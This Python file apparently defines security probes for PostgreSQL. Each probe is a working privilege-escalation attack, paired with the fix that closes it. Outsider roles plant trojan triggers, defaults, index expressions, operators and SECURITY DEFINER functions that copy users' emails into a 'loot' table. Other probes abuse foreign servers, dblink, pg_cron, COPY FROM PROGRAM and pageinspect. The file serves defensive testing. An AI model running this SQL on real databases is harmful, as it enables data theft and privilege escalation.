"""Trojans and machinery: what runs as an insider, and what reads below the tables."""

from __future__ import annotations

from ringfence.gate.postgres.probes.probe import Holding, Probe, insider

_STEAL = (
    "CREATE TABLE {play}.loot (email text)",
    "GRANT INSERT ON {play}.loot TO PUBLIC",
    (
        "CREATE FUNCTION {play}.take() RETURNS int LANGUAGE plpgsql AS $$ BEGIN"
        " INSERT INTO {play}.loot SELECT email FROM {copy}.profile WHERE region = 'US';"
        " RETURN 1; END $$"
    ),
    # What an index or a check calls must be immutable, or say that it is.
    (
        "CREATE FUNCTION {play}.still(int) RETURNS int IMMUTABLE LANGUAGE plpgsql"
        " AS $$ BEGIN PERFORM {play}.take(); RETURN $1; END $$"
    ),
)
_LOOK = "SELECT email FROM {play}.loot"
_PLAYS = ("GRANT USAGE ON SCHEMA {play} TO {inn}",)
_TROJAN = "no object of a login outside the fence where insiders write: REVOKE CREATE"


def _trojan(number: str, title: str, *plant: str, meet: str) -> Probe:
    return Probe(
        number=number,
        group="doors",
        title=title,
        setup=_PLAYS,
        attack=(
            *_STEAL,
            *plant,
            "GRANT INSERT, SELECT ON {play}.todo TO {inn}",
            insider(meet),
            _LOOK,
        ),
        closes=_TROJAN,
        closable=False,
    )


_TRIGGER = (
    "CREATE FUNCTION {play}.fire() RETURNS trigger LANGUAGE plpgsql"
    " AS $$ BEGIN PERFORM {play}.take(); RETURN NULL; END $$"
)
_SERVER = (
    "CREATE EXTENSION {wrapper} SCHEMA {play}",
    (
        "CREATE SERVER {tag}_far FOREIGN DATA WRAPPER {fdw}"
        " OPTIONS (host '{host}', port '{port}', dbname '{database}')"
    ),
    (
        "CREATE USER MAPPING FOR PUBLIC SERVER {tag}_far"
        " OPTIONS (user '{insider_name}', password '{secret}')"
    ),
    "GRANT USAGE ON FOREIGN SERVER {tag}_far TO {out}",
)


def _server(wrapper: str, fdw: str) -> tuple[str, ...]:
    return tuple(
        one.replace("{wrapper}", wrapper).replace("{fdw}", fdw) for one in _SERVER
    )


_RAW = (
    "CREATE EXTENSION pageinspect SCHEMA {play}",
    "GRANT EXECUTE ON FUNCTION {play}.get_raw_page(text, bigint) TO {out}",
)

TROJANS = (
    _trojan(
        "L21",
        "a trigger on an outsider's table runs as the insider who writes there",
        "CREATE TABLE {play}.todo (id int)",
        _TRIGGER,
        (
            "CREATE TRIGGER planted AFTER INSERT ON {play}.todo"
            " EXECUTE FUNCTION {play}.fire()"
        ),
        meet="INSERT INTO {play}.todo VALUES (1)",
    ),
    Probe(
        number="L21b",
        group="doors",
        title="the TRIGGER privilege on the table itself plants a trigger there",
        setup=(
            *_PLAYS,
            "GRANT TRIGGER ON {copy}.profile TO {out}",
            "GRANT UPDATE ON {copy}.profile TO {inn}",
        ),
        attack=(
            *_STEAL,
            _TRIGGER,
            (
                "CREATE TRIGGER planted AFTER UPDATE ON {copy}.profile"
                " EXECUTE FUNCTION {play}.fire()"
            ),
            insider("UPDATE {copy}.profile SET note = note WHERE id = {guess_id}"),
            _LOOK,
        ),
        closes="REVOKE TRIGGER",
    ),
    Probe(
        number="L21c",
        group="doors",
        title="an outsider's SECURITY DEFINER function is called by an insider",
        setup=(
            *_PLAYS,
            "CREATE TABLE {copy}.vault (region text, email text)",
            "INSERT INTO {copy}.vault VALUES ('US', '{canary}')",
            "ALTER TABLE {copy}.vault OWNER TO {own}",
            "GRANT SELECT ON {copy}.vault TO {out}",
        ),
        attack=(
            _STEAL[0],
            (
                "CREATE FUNCTION {play}.take() RETURNS int LANGUAGE plpgsql"
                " SECURITY DEFINER AS $$ BEGIN"
                " INSERT INTO {play}.loot SELECT email FROM {copy}.vault;"
                " RETURN 1; END $$"
            ),
            insider("SELECT {play}.take()"),
            _LOOK,
        ),
        holdings=(Holding("vault"),),
        closes="row security that judges current_user as well as session_user",
    ),
    _trojan(
        "L22",
        "a column's default on an outsider's table runs as the insider",
        "CREATE TABLE {play}.todo (id int, n int DEFAULT {play}.take())",
        meet="INSERT INTO {play}.todo VALUES (1)",
    ),
    _trojan(
        "L22b",
        "an index expression on an outsider's table runs as the insider",
        "CREATE TABLE {play}.todo (id int)",
        "CREATE INDEX ON {play}.todo ({play}.still(id))",
        meet="INSERT INTO {play}.todo VALUES (1)",
    ),
    _trojan(
        "L22c",
        "a domain's check of an outsider runs as the insider",
        "CREATE DOMAIN {play}.kind AS int CHECK ({play}.still(VALUE) > 0)",
        "CREATE TABLE {play}.todo (id {play}.kind)",
        meet="INSERT INTO {play}.todo VALUES (1)",
    ),
    _trojan(
        "L22d",
        "an outsider's operator runs as the insider who uses it",
        "CREATE TABLE {play}.todo (id int)",
        "CREATE FUNCTION {play}.eq(int, text) RETURNS bool LANGUAGE plpgsql"
        " AS $$ BEGIN PERFORM {play}.take(); RETURN true; END $$",
        "CREATE OPERATOR {play}.= (LEFTARG = int, RIGHTARG = text,"
        " FUNCTION = {play}.eq)",
        meet="SELECT 1 OPERATOR({play}.=) '1'::text",
    ),
    Probe(
        number="L23",
        group="doors",
        title="a foreign server logs in as an insider for PUBLIC",
        setup=(
            *_server("postgres_fdw", "postgres_fdw"),
            (
                "CREATE FOREIGN TABLE {play}.far (email text)"
                " SERVER {tag}_far"
                " OPTIONS (schema_name '{copy_name}', table_name 'side')"
            ),
            "GRANT SELECT ON {play}.far TO {out}",
        ),
        attack=("SELECT email FROM {play}.far",),
        closes="DROP USER MAPPING FOR PUBLIC; REVOKE USAGE ON FOREIGN SERVER",
        closable=False,
        extension="postgres_fdw",
    ),
    Probe(
        number="L24",
        group="doors",
        title="dblink logs in as an insider with a stored password",
        setup=_server("dblink", "dblink_fdw"),
        attack=(
            (
                "SELECT * FROM {play}.dblink('{tag}_far',"
                " 'SELECT email FROM {copy}.side') AS d(email text)"
            ),
        ),
        closes="DROP USER MAPPING; REVOKE USAGE ON FOREIGN SERVER",
        closable=False,
        extension="dblink",
    ),
    Probe(
        number="L25",
        group="doors",
        title="a foreign table can't have row security",
        setup=(
            "CREATE EXTENSION file_fdw SCHEMA {play}",
            "CREATE SERVER {tag}_far FOREIGN DATA WRAPPER file_fdw",
            (
                "CREATE FOREIGN TABLE {copy}.far (email text)"
                " SERVER {tag}_far OPTIONS (program 'echo {canary}')"
            ),
            "GRANT SELECT ON {copy}.far TO {out}",
        ),
        attack=("SELECT email FROM {copy}.far",),
        holdings=(Holding("far", marked=False),),
        closes="REVOKE SELECT on the foreign table",
        extension="file_fdw",
    ),
    Probe(
        number="L26",
        group="doors",
        title="COPY ... FROM PROGRAM reads the table's file",
        setup=("GRANT pg_execute_server_program TO {out}",),
        attack=(
            "CREATE TABLE {play}.loot (line text)",
            (
                "COPY {play}.loot FROM PROGRAM"
                " 'grep -a -o \"canary[a-z0-9@.]*\" {file}; true'"
            ),
            "SELECT line FROM {play}.loot",
        ),
        closes="REVOKE pg_execute_server_program",
    ),
    Probe(
        number="S21",
        group="doors",
        title="a language that isn't trusted takes no function of a login",
        attack=(
            (
                "CREATE FUNCTION {play}.c() RETURNS cstring LANGUAGE internal"
                " AS 'pg_read_file_all'"
            ),
        ),
        sees="accepted",
    ),
    Probe(
        number="L27",
        group="doors",
        title="a scheduler (pg_cron) runs a job as an insider",
        setup=("CREATE EXTENSION pg_cron", "GRANT USAGE ON SCHEMA cron TO {out}"),
        attack=(
            (
                "SELECT cron.schedule_in_database('x', '* * * * *', 'SELECT 1',"
                " '{database}', '{insider_name}')"
            ),
        ),
        sees="accepted",
        extension="pg_cron",
        closes="REVOKE USAGE ON SCHEMA cron",
    ),
    Probe(
        number="L28",
        group="doors",
        title="a function of a superuser hands out raw pages (pageinspect)",
        setup=(
            *_RAW,
            (
                "CREATE FUNCTION {copy}.page(text) RETURNS bytea LANGUAGE sql SECURITY"
                " DEFINER AS $$ SELECT {play}.get_raw_page($1, 0) $$"
            ),
        ),
        attack=("SELECT {copy}.page('{copy}.profile')",),
        closes="REVOKE EXECUTE",
        extension="pageinspect",
    ),
    Probe(
        number="L28b",
        group="doors",
        title="pg_walinspect shows what was written, for pg_read_server_files",
        setup=(
            "CREATE EXTENSION pg_walinspect SCHEMA {play}",
            "GRANT pg_read_server_files TO {out}",
        ),
        attack=(
            (
                "SELECT block_data, block_fpi_data FROM"
                " {play}.pg_get_wal_block_info('{lsn}', '{lsn_end}')"
            ),
        ),
        closes="REVOKE pg_read_server_files",
        extension="pg_walinspect",
        since=16,
    ),
    Probe(
        number="S22",
        group="doors",
        title="pageinspect asks for a superuser, whoever may EXECUTE it",
        setup=_RAW,
        attack=("SELECT {play}.get_raw_page('{copy}.profile', 0)",),
        extension="pageinspect",
    ),
    Probe(
        number="S5",
        group="doors",
        title="dblink without a password is refused to who is no superuser",
        setup=("CREATE EXTENSION dblink SCHEMA {play}",),
        attack=(
            (
                "SELECT * FROM {play}.dblink('host={host} port={port} dbname={database}"
                " user={insider_name}',"
                " 'SELECT email FROM {copy}.side') AS d(email text)"
            ),
        ),
        extension="dblink",
    ),
)
